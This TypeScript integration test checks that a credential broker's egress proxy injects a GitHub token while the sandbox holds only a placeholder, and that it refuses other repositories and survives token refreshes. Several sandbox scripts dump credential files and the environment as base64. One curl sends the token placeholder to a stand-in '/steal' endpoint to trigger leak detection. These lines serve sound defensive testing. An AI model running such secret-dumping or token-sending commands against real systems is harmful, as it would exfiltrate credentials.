/**
 * A GitHub App token injected at the egress proxy, end to end against the GitHub stand-in over
 * TLS on 127.0.0.2: git in the box clones and pushes a task repository with a placeholder in its
 * Basic auth (from the sandbox's git/credentials file), another repository is refused, curl calls
 * the API with the placeholder, and the session outlives short-lived tokens with the placeholder
 * unchanged. The GitHub placeholder sent to another injected host is a leak.
 */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { bwrapWorks } from "../helpers/bwrap.js";
import { waitFor, type TestDaemon } from "../helpers/daemon.js";
import { githubPolicy, startGithubFixture, type GithubFixture } from "../helpers/github-fixture.js";
import { makeTestCa, type TestCa } from "../helpers/test-ca.js";
import { tempDir } from "../helpers/tmp.js";
import { randomValue } from "../run/run-fixture.js";
import { ROUTES, runGit } from "../stubs/github-stub.js";
import { boxReport, occurrences, startApiStandIn, type ApiStandIn } from "./inject-stand-in.js";

type AuditLine = Record<string, unknown>;
const auditOf = (d: TestDaemon): AuditLine[] =>
  readFileSync(join(d.stateDir, "audit.jsonl"), "utf8")
    .split("\n")
    .filter(Boolean)
    .map((line) => JSON.parse(line) as AuditLine);

describe.skipIf(!bwrapWorks())("a GitHub token injected at the egress proxy", () => {
  const dir = tempDir("broker-inject-gh-", "/var/tmp");
  const work = tempDir("broker-inject-gh-work-", "/var/tmp");
  let ca: TestCa;
  let f: GithubFixture;
  let api: ApiStandIn;
  const openai = randomValue("sk-real");
  const gitEnv = { GIT_CONFIG_NOSYSTEM: "1", GIT_CONFIG_GLOBAL: "/dev/null", GIT_TERMINAL_PROMPT: "0" };
  const passGitEnv = Object.keys(gitEnv).flatMap((name) => ["--pass-env", name]);
  beforeAll(async () => {
    ca = makeTestCa(dir.path);
    api = await startApiStandIn(ca, { bearer: openai });
    const body = `  repositories: [reports]\n  permissions: { contents: write }\n  inject: true\n`;
    const other = `env:\n  OPENAI_API_KEY:\n    secret: openai\n    inject: { host: "127.0.0.2:${api.port}", header: Authorization, format: "Bearer {value}" }\n`;
    f = await startGithubFixture(
      (url) => ({ writer: githubPolicy("writer", url, body), both: githubPolicy("both", url, body) + other }),
      { listenHost: "127.0.0.2", tls: ca.server },
      { parent: "/var/tmp", env: { NODE_EXTRA_CA_CERTS: ca.certFile } },
    );
    const set = await f.daemon.cli(["secret", "set", "openai", "--type", "generic"], { input: `${openai}\n` });
    expect(set.code, set.stderr).toBe(0);
  }, 60_000);
  afterAll(async () => {
    await f?.cleanup();
    await api?.close();
    dir.cleanup();
    work.cleanup();
  });

  const run = (task: string, script: string) =>
    f.daemon.cli(["run", "--task", task, "--sandbox-tmp", ...passGitEnv, "--", "sh", "-c", script], { cwd: work.path, env: gitEnv, timeoutMs: 90_000 });

  it("git clones and pushes the task's repository with a placeholder; another repository is refused", async () => {
    const tokensBefore = f.stub.tokens.length;
    const script = `set -e
      echo "session=$BROKER_SESSION"
      echo "placeholder_rev=$(printf %s "$GH_TOKEN" | rev)"
      git clone -q ${f.stub.url}/acme/reports.git clone
      cd clone && echo injected > injected.txt && git add injected.txt
      git -c user.name=a -c user.email=a@example.invalid commit -qm "from the box"
      git push -q origin HEAD:main && echo pushed=yes
      cd .. && (git clone -q ${f.stub.url}/acme/website.git other 2>&1 || true) | tail -1 | sed 's/^/other=/'
      echo "api=$(curl -sS -o /dev/null -w '%{http_code}' -H "Authorization: token $GH_TOKEN" ${f.stub.url}/installation/repositories)"
      echo "files_b64=$(cat "$BROKER_SANDBOX_DIR"/git/credentials "$BROKER_SANDBOX_DIR"/env | base64 -w0)"
      echo "env_b64=$(env | base64 -w0)"`;
    const result = await run("writer", script);
    expect(result.code, result.stderr).toBe(0);
    const seen = boxReport(result.stdout);
    // Printed reversed: broker run masks the box's credentials, placeholders included, in its output.
    seen.placeholder = [...(seen.placeholder_rev ?? "")].reverse().join("");
    expect(seen.placeholder).toMatch(/^ghs_[A-Za-z0-9]{36}$/);
    expect(seen.pushed).toBe("yes");
    expect(seen.other).toMatch(/403|not one of|refused/i);
    expect(seen.api).toBe("200");
    const remote = await runGit(["ls-tree", "--name-only", "main"], { cwd: join(f.root, "repos", "acme", "reports.git"), home: f.gitHome });
    expect(remote.stdout).toContain("injected.txt");
    // The real token reached the stand-in, never the box.
    const token = f.stub.tokens.at(-1)!;
    expect(f.stub.tokens.length).toBe(tokensBefore + 1);
    expect(token.token).not.toBe(seen.placeholder);
    for (const text of [result.stdout, result.stderr, seen.files ?? "", seen.env ?? ""]) expect(occurrences(text, token.token)).toBe(0);
    expect(seen.files).toContain(seen.placeholder);
    const packs = f.stub.requests.filter((r) => r.route === ROUTES.gitReceivePack);
    expect(packs.at(-1)!.status).toBe(200);
    // The other repository got no credential: git's first, anonymous probe was answered 401, and nothing followed it.
    expect(f.stub.requests.filter((r) => r.path.startsWith("/acme/website") && (r.status !== 401 || r.auth !== "none"))).toEqual([]);
    expect(token.revokedAt).not.toBeNull();
  }, 120_000);

  it("the placeholder stays the same and keeps working across token refreshes", async () => {
    f.stub.tokenLifetimeSeconds = 8;
    try {
      const before = f.stub.tokens.length;
      // Refreshes run a margin before expiry: short tokens mean several inside this run.
      const script = `
        echo "first=$(printf %s "$GH_TOKEN" | rev)"
        for i in 1 2 3 4; do curl -sS -o /dev/null -w "%{http_code}\\n" -H "Authorization: token $GH_TOKEN" ${f.stub.url}/installation/repositories; sleep 4; done | tr '\\n' ' ' | sed 's/^/codes=/'; echo
        echo "last=$(printf %s "$GH_TOKEN" | rev)"`;
      const result = await run("writer", script);
      expect(result.code, result.stderr).toBe(0);
      const seen = boxReport(result.stdout);
      expect(seen.codes?.trim()).toBe("200 200 200 200");
      expect(seen.first).toMatch(/^[A-Za-z0-9]{36}_shg$/);
      expect(seen.last).toBe(seen.first);
      expect(f.stub.tokens.length - before).toBeGreaterThanOrEqual(2);
    } finally {
      f.stub.tokenLifetimeSeconds = 3600;
    }
  }, 120_000);

  it("the GitHub placeholder sent to another injected host is a leak: refused, audited, the session ended", async () => {
    const script = `
      echo "session=$BROKER_SESSION"
      echo "status=$(curl -sS -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $GH_TOKEN" https://127.0.0.2:${api.port}/steal)"
      sleep 10; echo still=running`;
    const result = await run("both", script);
    const seen = boxReport(result.stdout);
    // The session ends at once: curl may see its connection cut (000), or be gone before it prints.
    expect([undefined, "403", "000"]).toContain(seen.status);
    expect(seen.still).toBeUndefined();
    expect(api.seen.filter((s) => s.url === "/steal")).toEqual([]);
    const leak = await waitFor(() => auditOf(f.daemon).find((l) => l.event === "leak" && l.session === seen.session));
    expect(leak).toMatchObject({ credential: "github", outcome: "session-ended" });
    // Ending the session revokes its token (after broker run has stopped the command, so waited for).
    expect(await waitFor(() => f.stub.tokens.at(-1)!.revokedAt ?? undefined)).not.toBeNull();
  }, 120_000);
});
